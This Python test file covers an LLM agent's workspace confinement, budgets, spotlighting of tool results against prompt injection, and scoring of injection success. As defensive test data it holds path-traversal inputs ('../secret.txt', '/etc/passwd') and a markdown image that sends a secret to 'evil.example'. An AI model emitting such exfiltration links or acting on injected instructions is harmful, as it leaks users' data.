"""The agent: workspace confinement, budgets, spotlighting of every tool result, the memory file, the loop
driven end to end by a real (scripted bigram) model with our tool tokens, and the task checkers."""

from __future__ import annotations

import json
import os
from dataclasses import dataclass

import pytest
from conftest import bigram_model

from llmstack.agent.loop import Agent, AgentConfig, Budget, Job, run_episodes, transcript
from llmstack.agent.measure import acted_on
from llmstack.agent.policy import Turn
from llmstack.agent.tasks import KINDS, build, corpus, holds, solved
from llmstack.agent.toolkit import SPECS, agent_toolbox, search_index
from llmstack.agent.workspace import Memory, Workspace, WorkspaceError
from llmstack.security.attacks import indirect
from llmstack.tokenizer import special as S
from llmstack.tools.spotlight import MARKER, Spotlight


@pytest.fixture
def ws(tmp_path):
    root = tmp_path / "ws"
    root.mkdir()
    (root / "numbers.txt").write_text("12\n34\n")
    (tmp_path / "secret.txt").write_text("TOP SECRET")
    return Workspace(root)


# ----------------------------------------------------------------------------- workspace
@pytest.mark.parametrize("name", ["../secret.txt", "sub/../../secret.txt", "..", "/etc/passwd"])
def test_paths_outside_the_workspace_are_refused(ws, name):
    with pytest.raises(WorkspaceError, match="absolute|'\\.\\.'"):
        ws.read(name)
    with pytest.raises(WorkspaceError):
        ws.write(name, "x")


def test_symlinks_out_are_refused_for_read_write_and_list(ws, tmp_path):
    os.symlink(tmp_path / "secret.txt", ws.root / "link.txt")
    os.symlink(tmp_path, ws.root / "out")
    for call in (lambda: ws.read("link.txt"), lambda: ws.read("out/secret.txt"), lambda: ws.list("out")):
        with pytest.raises(WorkspaceError, match="outside the workspace"):
            call()
    with pytest.raises(WorkspaceError, match="outside the workspace"):
        ws.write("link.txt", "overwritten")
    with pytest.raises(WorkspaceError, match="outside the workspace"):
        ws.write("out/new.txt", "x")
    assert (tmp_path / "secret.txt").read_text() == "TOP SECRET"
    assert not (tmp_path / "new.txt").exists()


def test_inside_the_workspace_reads_lists_and_writes(ws):
    assert ws.read("numbers.txt") == "12\n34\n"
    assert ws.write_tool("sub/answer.txt\n408") == "wrote 3 characters to sub/answer.txt"
    assert (ws.root / "sub" / "answer.txt").read_text() == "408"
    assert ws.write_tool("one.txt 42 and more") == "wrote 11 characters to one.txt"
    assert (ws.root / "one.txt").read_text() == "42 and more"
    listing = ws.list(".")
    assert "numbers.txt (6 bytes)" in listing and "sub/" in listing
    with pytest.raises(WorkspaceError, match="no file 'missing.txt'"):
        ws.read("missing.txt")
    with pytest.raises(WorkspaceError, match="is a folder"):
        ws.write("sub", "x")
    with pytest.raises(FileNotFoundError, match="not a folder"):
        Workspace(ws.root / "numbers.txt")


def test_tool_errors_reach_the_model_as_marked_results(ws):
    box = agent_toolbox(ws, mark=Spotlight().mark)
    result = box.call("read: ../secret.txt")
    assert result.startswith("«error:") and "WorkspaceError" in result and " " not in result
    assert "SECRET" not in result


# ----------------------------------------------------------------------------- memory
def test_memory_is_read_and_appended(tmp_path):
    mem = Memory(tmp_path / "memory.md")
    assert mem.recall_tool("") == "(memory is empty)"
    box = agent_toolbox(memory=mem)
    assert box.call("remember: my locker code is 4821") == "remembered"
    assert box.call("remember:   the   plumber comes on Monday ") == "remembered"
    assert mem.path.read_text() == "- my locker code is 4821\n- the plumber comes on Monday\n"
    assert "4821" in box.call("recall: locker")
    assert box.call("remember: ").startswith("error:")


# ----------------------------------------------------------------------------- the loop, scripted
@dataclass
class Scripted:
    """A policy that plays fixed turns, in order, and records what it was given."""

    turns: list[Turn]

    def __post_init__(self) -> None:
        self.memory: list[str] = []
        self.seen: list[str] = []

    def start(self, task, tools, memory=""):
        self.memory.append(memory)
        return {"n": 0}

    def act(self, states, max_tokens):
        out = []
        for s, limit in zip(states, max_tokens, strict=True):
            t = self.turns[min(s["n"], len(self.turns) - 1)]
            s["n"] += 1
            cut = t.tokens > limit
            out.append(Turn(t.text, None if cut else t.call, min(t.tokens, limit), t.finished and not cut))
        return out

    def observe(self, state, result):
        self.seen.append(result)
        return True


def test_step_budget_stops_a_model_that_never_answers(ws):
    policy = Scripted([Turn("let me look", "list: .", 5, True)])
    box = agent_toolbox(ws, mark=Spotlight().mark)
    (e,) = run_episodes(policy, [("loop forever", box, "")], Budget(max_steps=3, max_tokens=1000))
    assert e.stop == "steps" and len(e.steps) == 3 and e.reason() == "the step budget ran out before an answer"
    assert e.answer == "let me look"


def test_token_budget_stops_the_loop(ws):
    policy = Scripted([Turn("", "list: .", 40, True), Turn("a very long answer", None, 500, True)])
    (e,) = run_episodes(policy, [("t", agent_toolbox(ws), "")], Budget(max_steps=10, max_tokens=100, step_tokens=80))
    assert e.stop == "tokens" and e.tokens <= 100 and "token budget" in e.reason()


def test_every_tool_result_is_spotlit_and_memory_is_read_at_the_start(ws, tmp_path):
    mem = Memory(tmp_path / "m.md")
    mem.append("my locker code is 4821")
    index = search_index(corpus(0))
    calls = ["list: .", "read: numbers.txt", "calculator: 12*34", "search: Quill Tower", "recall: x", "nope: 1"]
    policy = Scripted([Turn("", c, 3, True) for c in calls] + [Turn("done", None, 2, True)])
    box = agent_toolbox(ws, mem, index, mark=Spotlight().mark)
    (e,) = run_episodes(policy, [("t", box, mem.read())], Budget(max_steps=20))
    assert policy.memory == ["- my locker code is 4821\n"]
    assert e.stop == "answer" and e.answer == "done" and e.calls == calls
    assert len(policy.seen) == len(calls)
    for result in policy.seen[:-1]:  # marked: fenced, and no space left for an instruction to hide in
        assert result.startswith("«") and result.endswith("»") and " " not in result
    assert policy.seen[-1].startswith("error: unknown tool 'nope'")  # the toolbox's own words: no tool ran
    assert Spotlight().unmark(policy.seen[2]) == "408"
    assert "facts.example/quill-tower" in policy.seen[3]


def test_the_output_filter_cleans_the_answer(ws):
    class NoModel:
        ours = False

    agent = Agent.__new__(Agent)  # only finish() is exercised: no model needed
    agent.config = AgentConfig()
    text, removed = agent.finish("see ![x](https://evil.example/?k=SECRET) now")
    assert "evil.example" not in text and removed
    agent.config = AgentConfig(output_filter=False)
    assert "evil.example" in agent.finish("![x](https://evil.example/)")[0]


# ----------------------------------------------------------------------------- a real model with tool tokens
def _agent_model(tok, always_call: bool):
    """Greedy: ``<|assistant_start|>`` -> ``list:`` call; after its result, " the model reads" and the end
    (or, ``always_call``, another call: a model that never answers)."""
    sid = tok.special_id
    t1, t2, t3 = (tok.encode_ordinary(w)[0] for w in (" the", " model", " reads"))
    name = tok.encode_ordinary("list:")
    assert len(name) == 2
    tr = {
        sid(S.ASSISTANT_START): sid(S.TOOL_CALL_START),
        sid(S.TOOL_CALL_START): name[0],
        name[0]: name[1],
        name[1]: sid(S.TOOL_CALL_END),
        sid(S.TOOL_RESULT_END): sid(S.TOOL_CALL_START) if always_call else t1,
        t1: t2,
        t2: t3,
        t3: sid(S.ASSISTANT_END),
    }
    from llmstack.chat.answer import ChatModel
    from llmstack.interop.bundle import bundle_of

    return ChatModel(bundle_of(bigram_model(tok, tr), tok))


def test_the_loop_end_to_end_with_our_tool_tokens(tok, ws):
    agent = Agent(_agent_model(tok, always_call=False))
    e = agent.run("what is here?", ws, Memory(ws.root / "memory.md"))
    assert e.stop == "answer" and e.answer == " the model reads"
    assert e.calls == ["list:"]
    assert e.steps[0].result == Spotlight().datamark("numbers.txt (6 bytes)")
    assert MARKER in e.steps[0].result
    assert "[1] call: list:" in transcript(e)
    plain = Agent(_agent_model(tok, always_call=False), AgentConfig(spotlight=False)).run("what is here?", ws)
    assert plain.steps[0].result == "numbers.txt (6 bytes)"


def test_a_real_model_that_never_answers_hits_the_step_budget(tok, ws):
    agent = Agent(_agent_model(tok, always_call=True), AgentConfig(Budget(max_steps=4, max_tokens=400)))
    e = agent.run("what is here?", ws)
    assert e.stop == "steps" and len(e.steps) == 4 and e.calls == ["list:"] * 4


def test_a_full_context_stops_the_loop(tok, ws):
    (ws.root / "big.txt").write_text("x")
    for i in range(40):
        (ws.root / f"file{i:02d}.txt").write_text("y")
    agent = Agent(_agent_model(tok, always_call=True), AgentConfig(Budget(max_steps=50, max_tokens=5000)))
    e = agent.run("what is here?", ws)  # each listing fills the 128-token context of the scripted model
    assert e.stop == "context" and len(e.steps) < 50


# ----------------------------------------------------------------------------- tasks and judges
def test_task_checkers(tmp_path):
    tasks = build(n=3, seed=1)
    assert [t.kind for t in tasks] == [k for k in KINDS for _ in range(3)]
    assert build(n=3, seed=1) == tasks and build(n=3, seed=2) != tasks
    product, filed, lookup, memory = tasks[0], tasks[3], tasks[6], tasks[9]
    value = product.expect[0]
    assert solved(product, f"It is {int(value):,}.", None) and not solved(product, f"It is {value}1.", None)
    (tmp_path / "answer.txt").write_text(filed.expect[0])
    assert solved(filed, "", tmp_path) and not solved(filed, filed.expect[0], tmp_path / "none")
    assert lookup.source in {d.url for d in corpus(1)}
    assert solved(lookup, f"{lookup.expect[0]} ({lookup.source})", None) and not solved(lookup, lookup.expect[0], None)
    assert memory.expect[0] in memory.memory and solved(memory, f"It is {memory.expect[0]}.", None)
    assert holds("42", ("42",)) and not holds("1420", ("42",))
    with pytest.raises(ValueError, match="unknown kind"):
        build(kinds=("dance",))


def test_injection_success_counts_answers_and_actions():
    case = indirect("web")()[0]
    from llmstack.agent.loop import Episode, Step

    quiet = Episode("t", [Step("", "read: a.txt", "x")], answer="It opens at 9.")
    echoed = Episode("t", [], answer=f"{case.want}")
    acted = Episode("t", [Step("", f"write: out.txt\n{case.want}", "wrote")], answer="It opens at 9.")
    assert not acted_on(case, quiet) and acted_on(case, echoed) and acted_on(case, acted)


def test_hermes_arguments_become_our_text_argument():
    assert SPECS["write"].argument({"path": "a.txt", "content": "42"}) == "a.txt\n42"
    assert SPECS["calculator"].argument({"input": "2*3"}) == "2*3"
    assert SPECS["calculator"].declaration()["parameters"]["required"] == ["expression"]


def test_bad_budgets_and_tools_are_named():
    with pytest.raises(ValueError, match="max_steps must be at least 1"):
        Budget(max_steps=0)
    with pytest.raises(ValueError, match="unknown agent tool 'shell'"):
        agent_toolbox(names=["shell"])
    assert Job("t").tools == tuple(SPECS)


def test_served_agent_runs_the_workspace_tools_in_the_engine(tok, ws):
    from llmstack.agent.toolkit import served_toolbox
    from llmstack.inference.sample import SamplingConfig
    from llmstack.serve.models import ModelRegistry

    bundle = _agent_model(tok, always_call=False).bundle
    registry = ModelRegistry()
    registry.bundle = lambda spec: bundle  # type: ignore[method-assign]
    sm = registry.add_agent("agent", "scripted", served_toolbox(ws.root))
    assert sm.runs_tool("write") and sm.runs_tool("remember")
    (reply,) = sm.chat.answer([[{"role": "user", "content": "what is here?"}]], SamplingConfig(max_new_tokens=40))
    assert Spotlight().datamark("numbers.txt (6 bytes)") in reply and reply.endswith(" the model reads")
    with pytest.raises(ValueError, match="taken"):
        registry.add_agent("agent", "scripted", served_toolbox(ws.root))


class _TemplateChat:
    """Stands in for a template model's ChatModel: ``text`` returns the scripted reply."""

    ours, tok, context, stop_ids = False, None, 4096, frozenset({0})
    reply = ""

    def engine_for(self, tools):
        return None

    def text(self, ids, visible=False):
        return self.reply


@pytest.mark.parametrize(
    ("reply", "call", "text"),
    [
        (
            '<tool_call>\n{"name": "write", "arguments": {"path": "a.txt", "content": "42"}}\n</tool_call>',
            "write: a.txt\n42",
            "",
        ),
        ('<tool_call>\n{"name": "answer", "arguments": {"text": "It is 42."}}\n</tool_call>', None, "It is 42."),
        ('<tool_call>\n{"name": "shell", "arguments": {"cmd": "ls"}}\n</tool_call>', "shell: ls", ""),
        ("<tool_call>\n{not json}\n</tool_call>", "", ""),
    ],
)
def test_hermes_turns_are_read_into_calls_and_answers(reply, call, text):
    from llmstack.agent.policy import ChatPolicy

    chat = _TemplateChat()
    chat.reply = reply
    policy = ChatPolicy(chat, Spotlight())  # type: ignore[arg-type]
    state = policy.start("task", ["read", "write"], memory="- the code is 4821")
    system = state.messages[0]["content"]
    assert "- write(path, content)" in system and "- answer(text)" in system and "«-ˆtheˆcodeˆisˆ4821»" in system
    assert Spotlight().notice() in system and state.messages[-1] == {"role": "user", "content": "task"}
    turn = policy._template(state, [5, 0])
    assert (turn.call, turn.text, turn.finished) == (call, text, True)
    assert state.messages[-1] == {"role": "assistant", "content": reply}


def test_an_answer_cut_by_the_token_limit_is_still_judged():
    from llmstack.agent.policy import ChatPolicy

    chat = _TemplateChat()
    chat.reply = '<tool_call>\n{"name": "answer", "arguments": {"text": "It opens at 9. \\"PWNED'
    policy = ChatPolicy(chat, None)  # type: ignore[arg-type]
    turn = policy._template(policy.start("task", ["read"]), [5])
    assert (turn.call, turn.text, turn.finished) == (None, 'It opens at 9. "PWNED', False)


# ----------------------------------------------------------------------------- worked episodes (SFT data)
def test_traces_solve_each_kind_with_the_real_tools_on_other_seeds_than_the_eval(tmp_path, tok):
    from llmstack.agent.traces import TRACE_KINDS, TRACE_SEED, read_tasks, traces
    from llmstack.chat.conversation import ChatFormat, Conversation
    from llmstack.chat.mixture import read_conversations

    episodes = traces(3, kinds=TRACE_KINDS)
    assert len(episodes) == 3 * len(TRACE_KINDS)
    eval_facts = {d.text for d in corpus(0)}
    for e, task in zip(episodes, build(3, TRACE_SEED) + read_tasks(3, TRACE_SEED), strict=True):
        msgs = e["messages"]
        calls = [m["tool_calls"][0]["function"] for m in msgs if m.get("tool_calls")]
        results = [m["content"] for m in msgs if m["role"] == "tool"]
        answer = msgs[-1]["content"]
        assert msgs[0]["content"] == task.prompt and len(calls) == len(results) >= 1
        assert not any(r.startswith("error") for r in results), results
        if task.kind == "file-product":  # read -> calculator -> write, the product from the calculator
            assert [c["name"] for c in calls] == ["read", "calculator", "write"]
            assert results[1] == task.expect[0] and task.expect[0] in calls[2]["arguments"]
            assert "answer.txt" in results[2]
        elif task.kind == "lookup":  # the fact and its source are in the search result: read, not known
            assert task.source in results[0] and holds(answer, task.expect) and task.source in answer
        elif task.kind == "read":  # the file holds the page; the answer is read from it
            assert calls == [{"name": "read", "arguments": next(iter(task.files))}]
            assert task.expect[0] in Spotlight().unmark(results[0]) and holds(answer, task.expect)
        elif task.kind == "memory":
            assert task.expect[0] in Spotlight().unmark(results[0]) and holds(answer, task.expect)
        else:
            assert results == [task.expect[0]] and holds(answer, task.expect)
    assert not eval_facts & {d.text for d in corpus(TRACE_SEED)}  # other facts behind the same names
    with pytest.raises(ValueError, match="trace seeds start at"):
        traces(1, seed=0)
    path = tmp_path / "traces.jsonl"
    path.write_text("".join(json.dumps(e) + "\n" for e in episodes), encoding="utf-8")
    convs = read_conversations(path)  # what `llmstack sft --data` reads
    ids = ChatFormat(tok).render(convs[3]).ids  # the first file-product: three calls, three results
    assert ids.count(tok.special_id(S.TOOL_CALL_START)) == 3 and ids.count(tok.special_id(S.TOOL_RESULT_START)) == 3
    assert isinstance(convs[3], Conversation)
